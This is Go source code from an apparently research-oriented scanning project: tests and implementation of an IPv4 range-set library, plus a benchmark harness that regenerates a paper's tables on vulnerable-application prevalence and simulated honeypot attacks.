		out[i] = netip.PrefixFrom(addr, bits)
	}
	return out
}

// TestSubtractMatchesPerProbeContains cross-checks iprange membership of
// (targets − exclude) against the old per-probe reference implementation: a
// linear prefix.Contains scan over both lists, for random prefix sets and
// random probe addresses.
func TestSubtractMatchesPerProbeContains(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		targets := randomPrefixes(rng, 1+rng.Intn(6))
		exclude := randomPrefixes(rng, rng.Intn(6))

		tset, err := FromPrefixes(targets)
		if err != nil {
			return false
		}
		eset, err := FromPrefixes(exclude)
		if err != nil {
			return false
		}
		space := tset.Subtract(eset)

		reference := func(a netip.Addr) bool {
			inTarget := false
			for _, p := range targets {
				if p.Contains(a) {
					inTarget = true
					break
				}
			}
			if !inTarget {
				return false
			}
			for _, p := range exclude {
				if p.Contains(a) {
					return false
				}
			}
			return true
		}

		// Probe random addresses, plus every range boundary and its
		// neighbors (the off-by-one hotspots).
		probes := make([]netip.Addr, 0, 256)
		for i := 0; i < 128; i++ {
			v := uint32(10)<<24 | uint32(rng.Intn(1<<24))
			probes = append(probes, netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}))
		}
		for _, r := range space.Ranges() {
			for _, v := range []uint32{r.Start, r.Start - 1, r.Last, r.Last + 1} {
				probes = append(probes, netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}))
			}
		}
		for _, a := range probes {
			if space.Contains(a) != reference(a) {
				t.Logf("seed %d: membership mismatch at %s: iprange=%v reference=%v",
					seed, a, space.Contains(a), reference(a))
				return false
			}
		}

		// The flat index mapping must enumerate exactly the member
		// addresses, in ascending order, with the cursor agreeing with
		// cold lookups.
		if space.NumAddresses() > 0 && space.NumAddresses() < 1<<14 {
			var cur Cursor
			prev := netip.Addr{}
			for i := uint64(0); i < space.NumAddresses(); i++ {
				a := space.AddrAt(i, &cur)
				if !reference(a) {
					t.Logf("seed %d: index %d yields non-member %s", seed, i, a)
					return false
				}
				if prev.IsValid() && !prev.Less(a) {
					t.Logf("seed %d: indices not ascending at %d (%s after %s)", seed, i, a, prev)
					return false
				}
				prev = a
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}

func TestIntersectMatchesSubtract(t *testing.T) {
	// |A ∩ B| + |A − B| == |A| for random sets.
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		a, err := FromPrefixes(randomPrefixes(rng, 1+rng.Intn(6)))
		if err != nil {
			return false
		}
		b, err := FromPrefixes(randomPrefixes(rng, 1+rng.Intn(6)))
		if err != nil {
			return false
		}
		return a.Intersect(b).NumAddresses()+a.Subtract(b).NumAddresses() == a.NumAddresses()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}

func TestSliceWindowMatchesAddr(t *testing.T) {
	// Every address of Slice(lo, hi) equals the corresponding Addr(lo+i) of
	// the parent set, for random sets and random windows.
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		s, err := FromPrefixes(randomPrefixes(rng, 1+rng.Intn(6)))
		if err != nil || s.Empty() {
			return err == nil
		}
		n := s.NumAddresses()
		lo := uint64(rng.Int63n(int64(n)))
		hi := lo + uint64(rng.Int63n(int64(n-lo)+1))
		sub := s.Slice(lo, hi)
		if sub.NumAddresses() != hi-lo {
			return false
		}
		var cur, subCur Cursor
		for i := uint64(0); i < hi-lo; i++ {
			if sub.AddrAt(i, &subCur) != s.AddrAt(lo+i, &cur) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}

func TestSlicePartitionCoversSet(t *testing.T) {
	// Contiguous windows partition the set: K slices concatenated visit
	// exactly the parent's addresses, in order.
	s, err := FromPrefixes([]netip.Prefix{
		netip.MustParsePrefix("10.0.0.0/28"),
		netip.MustParsePrefix("10.0.1.0/30"),
		netip.MustParsePrefix("192.168.0.0/29"),
	})
	if err != nil {
		t.Fatal(err)
	}
	n := s.NumAddresses()
	const k = 5
	var idx uint64
	for i := 0; i < k; i++ {
		lo, hi := uint64(i)*n/k, uint64(i+1)*n/k
		sub := s.Slice(lo, hi)
		if got := sub.NumAddresses(); got != hi-lo {
			t.Fatalf("slice %d: %d addresses, want %d", i, got, hi-lo)
		}
		for j := uint64(0); j < sub.NumAddresses(); j++ {
			if got, want := sub.Addr(j), s.Addr(idx); got != want {
				t.Fatalf("slice %d index %d: %v, want %v", i, j, got, want)
			}
			idx++
		}
	}
	if idx != n {
		t.Fatalf("partition visited %d of %d addresses", idx, n)
	}
	// Degenerate windows.
	if !s.Slice(3, 3).Empty() {
		t.Fatal("empty window not empty")
	}
	if got := s.Slice(0, n+100).NumAddresses(); got != n {
		t.Fatalf("over-clamped slice has %d addresses, want %d", got, n)
	}
}

func TestIndexInvertsAddr(t *testing.T) {
	s := mustSet(t, "10.0.0.0/24", "10.2.0.0/23", "192.168.1.0/28")
	var cur Cursor
	for i := uint64(0); i < s.NumAddresses(); i++ {
		ip := s.Addr(i)
		got, ok := s.IndexAt(ip, &cur)
		if !ok || got != i {
			t.Fatalf("Index(Addr(%d)) = %d, %v", i, got, ok)
		}
	}
	// Non-members and non-IPv4 addresses are rejected.
	for _, bad := range []string{"10.0.1.0", "10.1.255.255", "10.2.2.0", "9.255.255.255", "::1"} {
		if _, ok := s.Index(netip.MustParseAddr(bad)); ok {
			t.Fatalf("Index(%s) claims membership", bad)
		}
	}
}

func TestIndexMatchesContainsProperty(t *testing.T) {
	s := mustSet(t, "10.0.0.0/22", "10.8.0.0/21", "172.16.0.0/24")
	f := func(raw uint32) bool {
		// Bias draws into the neighborhood of the set so hits happen.
		v := 10<<24 | raw%(1<<24)
		ip := netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
		idx, ok := s.Index(ip)
		if ok != s.Contains(ip) {
			return false
		}
		return !ok || s.Addr(idx) == ip
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestBucketsFindInvertsStart(t *testing.T) {
	b := NewBuckets([]uint64{3, 0, 5, 1, 0, 7})
	if b.Total() != 16 || b.Len() != 6 {
		t.Fatalf("total %d len %d", b.Total(), b.Len())
	}
	for i := uint64(0); i < b.Total(); i++ {
		bucket, off := b.Find(i)
		if b.Size(bucket) == 0 {
			t.Fatalf("index %d resolved to empty bucket %d", i, bucket)
		}
		if b.Start(bucket)+off != i {
			t.Fatalf("index %d: bucket %d off %d does not recompose", i, bucket, off)
		}
	}
	// Explicit spot checks across the empty buckets.
	if bucket, off := b.Find(3); bucket != 2 || off != 0 {
		t.Fatalf("Find(3) = (%d, %d), want (2, 0)", bucket, off)
	}
	if bucket, off := b.Find(9); bucket != 5 || off != 0 {
		t.Fatalf("Find(9) = (%d, %d), want (5, 0)", bucket, off)
	}
}
