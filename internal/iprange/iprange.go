// Package iprange provides normalized IPv4 address-range sets with the set
// algebra the scanning pipeline needs: union-on-construction, subtraction,
// intersection, membership, and — the property the Stage-I hot loop is built
// on — a flat index→address mapping over the whole set.
//
// A Set is an immutable, sorted, merged (disjoint, non-adjacent) sequence of
// inclusive ranges. Because the ranges are normalized once at construction,
// the scanner can subtract its exclusion list from its target list up front
// and then iterate a dense index space [0, NumAddresses()) that contains no
// excluded address at all: the per-probe exclusion check of the previous
// design disappears from the inner loop entirely.
package iprange

import (
	"fmt"
	"net/netip"
	"sort"
)

// Range is an inclusive span of IPv4 addresses, [Start, Last], in host byte
// order. Inclusive bounds make the full space [0, 0xffffffff] representable
// without overflow.
type Range struct {
	Start, Last uint32
}

// size returns the number of addresses in r (up to 2^32, hence uint64).
func (r Range) size() uint64 { return uint64(r.Last-r.Start) + 1 }

// Set is a normalized set of IPv4 addresses. The zero value is the empty
// set. Sets are immutable after construction and safe for concurrent use.
type Set struct {
	ranges []Range
	// cum[i] is the number of addresses in ranges[0:i]; cum has
	// len(ranges)+1 entries, with cum[len(ranges)] == total.
	cum   []uint64
	total uint64
}

// build finalizes a set from an already-normalized range slice.
func build(ranges []Range) *Set {
	s := &Set{ranges: ranges, cum: make([]uint64, len(ranges)+1)}
	for i, r := range ranges {
		s.cum[i] = s.total
		s.total += r.size()
	}
	s.cum[len(ranges)] = s.total
	return s
}

// FromPrefixes constructs the union of the given IPv4 prefixes. Overlapping
// and adjacent prefixes are merged, so every address is counted exactly
// once. An empty or nil slice yields the empty set; a non-IPv4 prefix is an
// error.
func FromPrefixes(prefixes []netip.Prefix) (*Set, error) {
	raw := make([]Range, 0, len(prefixes))
	for _, p := range prefixes {
		if !p.Addr().Is4() {
			return nil, fmt.Errorf("iprange: prefix %s is not IPv4", p)
		}
		b := p.Addr().As4()
		start := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
		// Mask off host bits so ("10.0.0.7/24") behaves like its canonical
		// network address, matching netip.Prefix.Contains semantics.
		var mask uint32
		if p.Bits() > 0 {
			mask = ^uint32(0) << (32 - p.Bits())
		}
		start &= mask
		last := start | ^mask
		raw = append(raw, Range{Start: start, Last: last})
	}
	return FromRanges(raw), nil
}

// FromRanges constructs a set from arbitrary (possibly overlapping,
// unsorted) inclusive ranges.
func FromRanges(raw []Range) *Set {
	if len(raw) == 0 {
		return build(nil)
	}
	sorted := make([]Range, len(raw))
	copy(sorted, raw)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Start < sorted[j].Start })
	merged := sorted[:1]
	for _, r := range sorted[1:] {
		top := &merged[len(merged)-1]
		// Merge overlapping and exactly-adjacent ranges. The Last+1 probe is
		// guarded so the top of the address space cannot overflow.
		if r.Start <= top.Last || (top.Last != ^uint32(0) && r.Start == top.Last+1) {
			if r.Last > top.Last {
				top.Last = r.Last
			}
			continue
		}
		merged = append(merged, r)
	}
	return build(merged)
}

// NumAddresses returns the number of addresses in the set.
func (s *Set) NumAddresses() uint64 { return s.total }

// NumRanges returns the number of disjoint ranges after normalization.
func (s *Set) NumRanges() int { return len(s.ranges) }

// Empty reports whether the set contains no addresses.
func (s *Set) Empty() bool { return s.total == 0 }

// Ranges returns the normalized ranges in ascending order. The slice is
// shared; callers must not modify it.
func (s *Set) Ranges() []Range { return s.ranges }

// Contains reports whether ip is a member. Non-IPv4 addresses are never
// members.
func (s *Set) Contains(ip netip.Addr) bool {
	if !ip.Is4() {
		return false
	}
	b := ip.As4()
	v := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
	// Find the first range with Start > v, then check its predecessor.
	i := sort.Search(len(s.ranges), func(i int) bool { return s.ranges[i].Start > v })
	return i > 0 && v <= s.ranges[i-1].Last
}

// Subtract returns s minus o.
func (s *Set) Subtract(o *Set) *Set {
	if s.total == 0 || o == nil || o.total == 0 {
		return s
	}
	var out []Range
	j := 0
	for _, r := range s.ranges {
		lo := r.Start
		consumed := false
		// Skip subtrahend ranges entirely below r.
		for j < len(o.ranges) && o.ranges[j].Last < lo {
			j++
		}
		for k := j; k < len(o.ranges) && o.ranges[k].Start <= r.Last; k++ {
			cut := o.ranges[k]
			if cut.Start > lo {
				out = append(out, Range{Start: lo, Last: cut.Start - 1})
			}
			if cut.Last >= r.Last {
				consumed = true
				break
			}
			// cut.Last < r.Last <= ^uint32(0), so the +1 cannot overflow.
			lo = cut.Last + 1
		}
		if !consumed {
			out = append(out, Range{Start: lo, Last: r.Last})
		}
	}
	return build(out)
}

// Intersect returns the addresses present in both s and o.
func (s *Set) Intersect(o *Set) *Set {
	if s.total == 0 || o == nil || o.total == 0 {
		return build(nil)
	}
	var out []Range
	i, j := 0, 0
	for i < len(s.ranges) && j < len(o.ranges) {
		a, b := s.ranges[i], o.ranges[j]
		lo, hi := max32(a.Start, b.Start), min32(a.Last, b.Last)
		if lo <= hi {
			out = append(out, Range{Start: lo, Last: hi})
		}
		if a.Last < b.Last {
			i++
		} else {
			j++
		}
	}
	return build(out)
}

func max32(a, b uint32) uint32 {
	if a > b {
		return a
	}
	return b
}

func min32(a, b uint32) uint32 {
	if a < b {
		return a
	}
	return b
}

// Slice returns the subset of s covering the flat-index window [lo, hi):
// the addresses Addr(lo) … Addr(hi-1). Because a Set's flat index space is
// dense and ordered, contiguous index windows partition the set exactly —
// this is the shard-extraction primitive the scan orchestrator is built
// on: the coordinator splits [0, NumAddresses()) into K windows and hands
// each shard a self-contained Set that preserves the global ordering.
// hi is clamped to NumAddresses(); an empty window yields the empty set.
func (s *Set) Slice(lo, hi uint64) *Set {
	if hi > s.total {
		hi = s.total
	}
	if lo >= hi {
		return build(nil)
	}
	// First range whose end-cumulative exceeds lo, i.e. the range holding
	// index lo.
	i := sort.Search(len(s.ranges), func(k int) bool { return s.cum[k+1] > lo })
	var out []Range
	for ; i < len(s.ranges) && s.cum[i] < hi; i++ {
		r := s.ranges[i]
		start, last := r.Start, r.Last
		if lo > s.cum[i] {
			start = r.Start + uint32(lo-s.cum[i])
		}
		if hi < s.cum[i+1] {
			last = r.Start + uint32(hi-s.cum[i]-1)
		}
		out = append(out, Range{Start: start, Last: last})
	}
	// Sub-ranges of normalized (disjoint, non-adjacent) ranges stay
	// normalized, so build needs no re-merge.
	return build(out)
}

// Cursor remembers the range a previous flat-index lookup landed in, so
// consecutive or near-consecutive lookups skip the binary search. Each
// goroutine iterating a set should hold its own Cursor; the zero value is
// ready to use.
type Cursor int

// Addr returns the idx-th address of the set in ascending order. idx must be
// in [0, NumAddresses()).
func (s *Set) Addr(idx uint64) netip.Addr {
	var cur Cursor
	return s.AddrAt(idx, &cur)
}

// AddrAt is Addr with a caller-held Cursor. When successive indices fall in
// the same range — the common case for chunked iteration, where a worker's
// indices are clustered — the lookup is a bounds check instead of a binary
// search over the cumulative sizes.
func (s *Set) AddrAt(idx uint64, cur *Cursor) netip.Addr {
	i := int(*cur)
	if i < 0 || i >= len(s.ranges) || idx < s.cum[i] || idx >= s.cum[i+1] {
		// sort.Search over cum: first range whose end-cumulative exceeds idx.
		i = sort.Search(len(s.ranges), func(k int) bool { return s.cum[k+1] > idx })
		*cur = Cursor(i)
	}
	v := s.ranges[i].Start + uint32(idx-s.cum[i])
	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
}

// Index is the inverse of Addr: it maps a member address back to its flat
// index, so shard plans, checkpoint watermarks, and the lazy population's
// occupancy lookups can address billions of positions arithmetically —
// never by enumerating the space. The second return is false when ip is
// not in the set (or not IPv4).
func (s *Set) Index(ip netip.Addr) (uint64, bool) {
	var cur Cursor
	return s.IndexAt(ip, &cur)
}

// IndexAt is Index with a caller-held Cursor, amortizing the binary search
// for clustered lookups the same way AddrAt does.
func (s *Set) IndexAt(ip netip.Addr, cur *Cursor) (uint64, bool) {
	if !ip.Is4() {
		return 0, false
	}
	b := ip.As4()
	v := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
	i := int(*cur)
	if i < 0 || i >= len(s.ranges) || v < s.ranges[i].Start || v > s.ranges[i].Last {
		// First range starting beyond v; its predecessor is the candidate.
		i = sort.Search(len(s.ranges), func(k int) bool { return s.ranges[k].Start > v }) - 1
		if i < 0 || v > s.ranges[i].Last {
			return 0, false
		}
		*cur = Cursor(i)
	}
	return s.cum[i] + uint64(v-s.ranges[i].Start), true
}

// Buckets partitions a flat index space [0, Total()) into consecutive
// variable-size buckets and answers both directions — bucket b starts at
// Start(b), and Find maps a global index to its (bucket, offset) pair by
// binary search. It is the occupancy-index building block the lazy
// population generator composes three ways: allocation → per-stratum slot
// spans, stratum → per-allocation quota spans, and the global stratum
// table itself.
type Buckets struct {
	cum []uint64
}

// NewBuckets builds the partition from per-bucket sizes.
func NewBuckets(sizes []uint64) Buckets {
	cum := make([]uint64, len(sizes)+1)
	for i, n := range sizes {
		cum[i+1] = cum[i] + n
	}
	return Buckets{cum: cum}
}

// Total returns the size of the partitioned index space.
func (b Buckets) Total() uint64 { return b.cum[len(b.cum)-1] }

// Len returns the number of buckets.
func (b Buckets) Len() int { return len(b.cum) - 1 }

// Start returns the global index where bucket i begins.
func (b Buckets) Start(i int) uint64 { return b.cum[i] }

// Size returns the number of indices in bucket i.
func (b Buckets) Size(i int) uint64 { return b.cum[i+1] - b.cum[i] }

// Find maps a global index in [0, Total()) to its bucket and the offset
// inside that bucket. Empty buckets are never returned.
func (b Buckets) Find(idx uint64) (bucket int, off uint64) {
	// First boundary strictly above idx; its predecessor's bucket owns idx.
	i := sort.Search(len(b.cum)-1, func(k int) bool { return b.cum[k+1] > idx })
	return i, idx - b.cum[i]
}
