// Benchmark harness: one benchmark per table and figure of the paper. Each
// benchmark times the computation that produces the artifact and, on its
// first iteration, prints the same rows/series the paper reports (with the
// published numbers alongside where applicable). Ablation and
// micro-benchmarks for the design choices called out in DESIGN.md follow
// at the end.
//
// Run with:  go test -bench=. -benchmem
package mavscan_test

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"sync"
	"testing"
	"time"

	"mavscan"
	"mavscan/internal/analysis"
	"mavscan/internal/apps"
	"mavscan/internal/attacker"
	"mavscan/internal/ctlog"
	"mavscan/internal/disclosure"
	"mavscan/internal/eslite"
	"mavscan/internal/fingerprint"
	"mavscan/internal/geo"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/population"
	"mavscan/internal/portscan"
	"mavscan/internal/prefilter"
	"mavscan/internal/report"
	"mavscan/internal/scanner"
	"mavscan/internal/secscan"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/study"
	"mavscan/internal/telemetry"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

// benchScanConfig is the shared world/scan scale for the table benches:
// small enough to iterate, large enough for every stratum to be populated.
func benchScanConfig() study.ScanConfig {
	return study.ScanConfig{
		Population: population.Config{
			Seed:            1,
			HostScale:       8000,
			VulnScale:       8,
			BackgroundScale: 400000,
			WildcardScale:   400000,
		},
		Scan: scanner.Options{Seed: 1},
	}
}

var (
	scanOnce  sync.Once
	scanCache *study.ScanStudy
	potsOnce  sync.Once
	potsCache *study.HoneypotStudy
)

// sharedScan runs the scanning study once and reuses it across the
// aggregation benches (the pipeline itself is timed by
// BenchmarkTable3Prevalence).
func sharedScan(b *testing.B) *study.ScanStudy {
	b.Helper()
	if testing.Short() {
		b.Skip("full scan study is slow; skipped in -short mode")
	}
	scanOnce.Do(func() {
		s, err := study.RunScan(context.Background(), benchScanConfig())
		if err != nil {
			b.Fatal(err)
		}
		scanCache = s
	})
	if scanCache == nil {
		b.Skip("scan study failed earlier")
	}
	return scanCache
}

func sharedPots(b *testing.B) *study.HoneypotStudy {
	b.Helper()
	if testing.Short() {
		b.Skip("honeypot study is slow; skipped in -short mode")
	}
	potsOnce.Do(func() {
		hs, err := study.RunHoneypots(context.Background(), study.HoneypotConfig{Seed: 7})
		if err != nil {
			b.Fatal(err)
		}
		potsCache = hs
	})
	if potsCache == nil {
		b.Skip("honeypot study failed earlier")
	}
	return potsCache
}

// printOnce prints the artifact on the benchmark's first iteration only.
func printOnce(i int, f func()) {
	if i == 0 {
		f()
	}
}

// BenchmarkTable1ManualInvestigation regenerates Table 1 from the catalog
// and verifies every emulator builds in its default configuration.
func BenchmarkTable1ManualInvestigation(b *testing.B) {
	for i := 0; i < b.N; i++ {
		for _, info := range mavscan.Catalog() {
			if _, err := apps.New(apps.Config{App: info.App}); err != nil {
				b.Fatal(err)
			}
		}
		printOnce(i, func() { report.Table1(os.Stdout) })
	}
}

// BenchmarkTable2OpenPorts times stages I+II over the generated world and
// prints the per-port open/HTTP/HTTPS counts.
func BenchmarkTable2OpenPorts(b *testing.B) {
	benchTable2(b, false)
}

// BenchmarkTable2OpenPortsTelemetry is the same scan with the metrics
// registry attached — the pair quantifies the telemetry-on overhead of the
// Stage-I hot path.
func BenchmarkTable2OpenPortsTelemetry(b *testing.B) {
	benchTable2(b, true)
}

func benchTable2(b *testing.B, instrumented bool) {
	cfg := benchScanConfig()
	world, err := population.Generate(cfg.Population)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		opts := cfg.Scan
		opts.Targets = world.Geo.Prefixes()
		opts.SkipFingerprint = true
		var popts []scanner.Option
		if instrumented {
			popts = append(popts, scanner.WithTelemetry(telemetry.New(simtime.Wall{})))
		}
		pipe := scanner.New(world.Net, popts...)
		rep, err := pipe.Run(context.Background(), opts)
		if err != nil {
			b.Fatal(err)
		}
		printOnce(i, func() { report.Table2(os.Stdout, rep) })
	}
}

// BenchmarkTable3Prevalence times the full three-stage pipeline (including
// fingerprinting) — the paper's headline measurement.
func BenchmarkTable3Prevalence(b *testing.B) {
	benchTable3(b, false)
}

// BenchmarkTable3PrevalenceTelemetry runs the same pipeline fully
// instrumented: stage counters, per-plugin latency histograms, and the
// span tree.
func BenchmarkTable3PrevalenceTelemetry(b *testing.B) {
	benchTable3(b, true)
}

func benchTable3(b *testing.B, instrumented bool) {
	cfg := benchScanConfig()
	world, err := population.Generate(cfg.Population)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		opts := cfg.Scan
		opts.Targets = world.Geo.Prefixes()
		var popts []scanner.Option
		if instrumented {
			popts = append(popts, scanner.WithTelemetry(telemetry.New(simtime.Wall{})))
		}
		pipe := scanner.New(world.Net, popts...)
		rep, err := pipe.Run(context.Background(), opts)
		if err != nil {
			b.Fatal(err)
		}
		printOnce(i, func() {
			report.Table3(os.Stdout, &study.ScanStudy{World: world, Report: rep})
		})
	}
}

// BenchmarkTable4GeoBreakdown times the geographic enrichment of the
// confirmed MAVs.
func BenchmarkTable4GeoBreakdown(b *testing.B) {
	scan := sharedScan(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		hosting := 0
		for _, obs := range scan.Report.VulnerableObservations() {
			if scan.World.Geo.Lookup(obs.IP).Hosting {
				hosting++
			}
		}
		printOnce(i, func() { report.Table4(os.Stdout, scan, 5) })
	}
}

// BenchmarkFigure1VersionAges times the release-date binning of all
// fingerprinted observations.
func BenchmarkFigure1VersionAges(b *testing.B) {
	scan := sharedScan(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		panels := analysis.Figure1(scan.Report.Apps, population.ScanDate, mav.JupyterNotebook, mav.Hadoop)
		printOnce(i, func() {
			report.Figure1(os.Stdout, panels)
			r, m, o := analysis.RecencyShares(scan.Report.Apps, population.ScanDate)
			fmt.Printf("recency: %.0f%% <6mo (paper ~65%%), %.0f%% 6-18mo (paper ~25%%), %.0f%% older (paper ~10%%)\n",
				100*r, 100*m, 100*o)
		})
	}
}

// BenchmarkFigure2Longevity times the four-week observer loop (3-hourly
// re-scans of every vulnerable host) against the churn model.
func BenchmarkFigure2Longevity(b *testing.B) {
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		scan, err := study.RunScan(context.Background(), study.ScanConfig{
			Population: population.Config{
				Seed: 1, HostScale: 40000, VulnScale: 10,
				BackgroundScale: -1, WildcardScale: -1,
			},
		})
		if err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		res, err := study.RunLongevity(context.Background(), study.LongevityConfig{Scan: scan, Seed: 1, Interval: 6 * 3600e9})
		if err != nil {
			b.Fatal(err)
		}
		printOnce(i, func() { report.Figure2(os.Stdout, res) })
	}
}

// BenchmarkTable5Attacks times the full honeypot study: deployment, four
// simulated weeks of attacks, sessionization.
func BenchmarkTable5Attacks(b *testing.B) {
	for i := 0; i < b.N; i++ {
		hs, err := study.RunHoneypots(context.Background(), study.HoneypotConfig{Seed: 7})
		if err != nil {
			b.Fatal(err)
		}
		printOnce(i, func() { report.Table5(os.Stdout, hs.Attacks) })
	}
}

// BenchmarkTable6TimeToCompromise times the inter-attack statistics.
func BenchmarkTable6TimeToCompromise(b *testing.B) {
	hs := sharedPots(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		stats := analysis.Table6(hs.Attacks, hs.Start)
		printOnce(i, func() { report.Table6(os.Stdout, stats) })
	}
}

// BenchmarkTable7AttackCountries times the per-country aggregation.
func BenchmarkTable7AttackCountries(b *testing.B) {
	hs := sharedPots(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows := analysis.Table7(hs.Attacks, hs.Geo)
		printOnce(i, func() { report.Table7(os.Stdout, rows, 10) })
	}
}

// BenchmarkTable8AttackASes times the per-AS aggregation.
func BenchmarkTable8AttackASes(b *testing.B) {
	hs := sharedPots(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows := analysis.Table8(hs.Attacks, hs.Geo)
		printOnce(i, func() { report.Table8(os.Stdout, rows, 5) })
	}
}

// BenchmarkFigure3AttackTimeline times the timeline flattening.
func BenchmarkFigure3AttackTimeline(b *testing.B) {
	hs := sharedPots(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		points := analysis.Figure3(hs.Attacks, hs.Start)
		printOnce(i, func() { report.Figure3(os.Stdout, points) })
	}
}

// BenchmarkFigure4AttackerGraph times the attacker clustering (union-find
// over shared payloads and source IPs).
func BenchmarkFigure4AttackerGraph(b *testing.B) {
	hs := sharedPots(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		clusters := analysis.ClusterAttackers(hs.Attacks)
		printOnce(i, func() {
			report.Figure4(os.Stdout, clusters)
			fmt.Printf("top-5 share %.0f%% (paper 67%%), top-10 %.0f%% (paper 84%%)\n",
				100*analysis.TopShare(clusters, 5), 100*analysis.TopShare(clusters, 10))
		})
	}
}

// BenchmarkRQ7DefenderAwareness times both commercial-scanner emulations
// against a fresh honeypot farm.
func BenchmarkRQ7DefenderAwareness(b *testing.B) {
	for i := 0; i < b.N; i++ {
		def, err := study.RunDefenders(context.Background(), study.DefenderConfig{})
		if err != nil {
			b.Fatal(err)
		}
		printOnce(i, func() {
			fmt.Printf("Scanner 1: %d/18 MAVs detected (paper 5); Scanner 2: %d/18 (paper 3)\n",
				secscan.VulnerabilitiesDetected(def.Scanner1),
				secscan.VulnerabilitiesDetected(def.Scanner2))
		})
	}
}

// BenchmarkTable9Summary times the three-study join.
func BenchmarkTable9Summary(b *testing.B) {
	scan := sharedScan(b)
	hs := sharedPots(b)
	def, err := study.RunDefenders(context.Background(), study.DefenderConfig{})
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows := study.Table9(scan, hs, def)
		printOnce(i, func() { report.Table9(os.Stdout, rows) })
	}
}

// BenchmarkScanHostileOff / On quantify the adversarial stratum: the same
// world and scan scale, first hostile-free, then with 10% weaponized
// responders, both under a tight HTTP wall budget. The Off variant doubles
// as the benign-path overhead gate — the hardened read paths (shared
// limits ledger, truncation bookkeeping, connection budgets) are in play
// on every request, and the pipeline must stay within 2% of its
// pre-adversary throughput (compare against BenchmarkTable3Prevalence in
// the previous BENCH file).
func BenchmarkScanHostileOff(b *testing.B) { benchHostileScan(b, 0) }

// BenchmarkScanHostileOn is the weaponized counterpart: tarpits, bombs
// and mazes in the population, terminated only by the budgets.
func BenchmarkScanHostileOn(b *testing.B) { benchHostileScan(b, 0.1) }

func benchHostileScan(b *testing.B, rate float64) {
	if testing.Short() {
		b.Skip("full scan study is slow; skipped in -short mode")
	}
	cfg := benchScanConfig()
	cfg.Population.HostileRate = rate
	cfg.HTTPTimeout = 150 * time.Millisecond
	for i := 0; i < b.N; i++ {
		scan, err := study.RunScan(context.Background(), cfg)
		if err != nil {
			b.Fatal(err)
		}
		if rate > 0 && scan.World.Hostile == 0 {
			b.Fatal("hostile world generated zero hostile hosts")
		}
	}
}

// --- Ablation benchmarks (design choices from DESIGN.md §4) ---

// BenchmarkAblationPrefilterOn/Off quantify the value of Stage II: without
// the prefilter, Stage III's plugins would have to run against every HTTP
// endpoint instead of only the signature-matched ones.
func BenchmarkAblationPrefilterOn(b *testing.B) {
	benchPrefilterAblation(b, true)
}

// BenchmarkAblationPrefilterOff is the counterfactual: all 18 plugins run
// against every responding endpoint.
func BenchmarkAblationPrefilterOff(b *testing.B) {
	benchPrefilterAblation(b, false)
}

func benchPrefilterAblation(b *testing.B, usePrefilter bool) {
	if testing.Short() {
		b.Skip("400k-host ablation world is slow; skipped in -short mode")
	}
	world, err := population.Generate(population.Config{
		Seed: 1, HostScale: 8000, VulnScale: 8,
		BackgroundScale: 400000, WildcardScale: -1,
	})
	if err != nil {
		b.Fatal(err)
	}
	client := httpsim.NewClient(world.Net, httpsim.ClientOptions{DisableKeepAlives: true})
	engine := tsunami.NewEngine(plugins.NewRegistry(), client)
	pre := prefilter.New(world.Net)
	// Collect the open endpoints once (Stage I).
	var endpoints []struct {
		ip   netip.Addr
		port int
	}
	world.Net.Hosts(func(h *simnet.Host) bool {
		for _, p := range h.Ports() {
			endpoints = append(endpoints, struct {
				ip   netip.Addr
				port int
			}{h.IP(), p})
		}
		return true
	})
	ctx := context.Background()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		found := 0
		for _, ep := range endpoints {
			if usePrefilter {
				res := pre.Probe(ctx, ep.ip, ep.port)
				for _, app := range res.Apps {
					found += len(engine.Scan(ctx, tsunami.Target{IP: ep.ip, Port: ep.port, Scheme: res.Scheme, App: app}))
				}
			} else {
				for _, info := range mav.InScopeApps() {
					found += len(engine.Scan(ctx, tsunami.Target{IP: ep.ip, Port: ep.port, Scheme: "http", App: info.App}))
				}
			}
		}
		if found == 0 {
			b.Fatal("no MAVs found")
		}
	}
}

// BenchmarkAblationRandomizedOrder measures the worst-case probe burst a
